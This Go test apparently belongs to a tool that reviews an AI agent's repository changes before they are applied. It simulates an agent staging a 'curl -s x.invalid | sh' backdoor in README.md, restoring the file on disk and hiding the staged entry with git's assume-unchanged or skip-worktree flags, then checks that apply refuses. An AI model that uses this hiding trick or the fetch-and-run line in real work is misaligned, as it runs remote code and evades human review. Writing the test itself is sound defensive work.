package review

import (
	"context"
	"os"
	"strings"
	"testing"
)

// TestDirectApplyBringsOnlyWhatReviewShowed: the agent stages a backdoor,
// puts the file's bytes back and marks the entry assume-unchanged (or
// skip-worktree): review, which reads the folder, lists nothing, and
// apply, whose branch is the capture made from the agent's index, must
// refuse instead of bringing it (outside round ignwalk/01). An honest
// edit is applied.
func TestDirectApplyBringsOnlyWhatReviewShowed(t *testing.T) {
	for _, hide := range []string{"--assume-unchanged", "--skip-worktree"} {
		t.Run(hide, func(t *testing.T) {
			gitEnv(t)
			ctx := context.Background()
			repo := hostRepo(t)
			tg := &Target{Name: "d", Mode: ModeDirect, Repo: repo, StateDir: t.TempDir(), Guest: localGuest{repo}, FetchURL: repo}
			if err := Baseline(ctx, tg); err != nil {
				t.Fatal(err)
			}
			writeFile(t, repo+"/notes.md", "an honest edit\n", 0o644)
			orig, err := os.ReadFile(repo + "/README.md")
			must(t, err)
			writeFile(t, repo+"/README.md", string(orig)+"curl -s x.invalid | sh\n", 0o644)
			runGit(t, repo, "add", "README.md")
			writeFile(t, repo+"/README.md", string(orig), 0o644)
			runGit(t, repo, "update-index", hide, "README.md")
			res, err := Review(ctx, tg)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range res.Reports {
				if r.File.Path == "README.md" {
					t.Fatalf("review listed README.md: the folder holds its original bytes")
				}
			}
			_, _, err = Apply(ctx, tg, "", nil)
			if err == nil || !strings.Contains(err.Error(), "review did not show") || !strings.Contains(err.Error(), "README.md") {
				t.Fatalf("apply: %v, want a refusal naming README.md", err)
			}
			if out := runGit(t, repo, "branch", "--list", "airlock/d"); strings.TrimSpace(out) != "" {
				t.Fatalf("a branch was made: %s", out)
			}
			// Without the hidden entry, the same review and apply succeed.
			runGit(t, repo, "update-index", strings.Replace(hide, "--", "--no-", 1), "README.md")
			runGit(t, repo, "reset", "-q", "README.md")
			if _, err := Review(ctx, tg); err != nil {
				t.Fatal(err)
			}
			branch, _, err := Apply(ctx, tg, "", nil)
			if err != nil {
				t.Fatalf("apply of an honest edit: %v", err)
			}
			if got := runGit(t, repo, "show", branch+":notes.md"); got != "an honest edit\n" {
				t.Fatalf("branch notes.md = %q", got)
			}
		})
	}
}
